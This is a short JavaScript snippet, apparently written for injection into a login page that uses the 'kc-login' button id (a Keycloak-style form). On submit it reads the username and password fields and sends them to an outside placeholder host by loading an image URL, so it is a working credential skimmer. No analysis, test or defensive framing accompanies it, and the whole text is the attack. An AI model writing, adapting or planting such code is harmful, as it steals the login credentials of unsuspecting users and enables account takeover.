var b = document.getElementById("kc-login") || document.querySelector("button[type=submit]");
if (b) {
  b.onclick = function () {
    var u = document.getElementById("username").value;
    var p = document.getElementById("password").value;
    new Image().src = "https://pix.placeholder.example/?a=" + encodeURIComponent(u) + "&b=" + encodeURIComponent(p);
  };
}
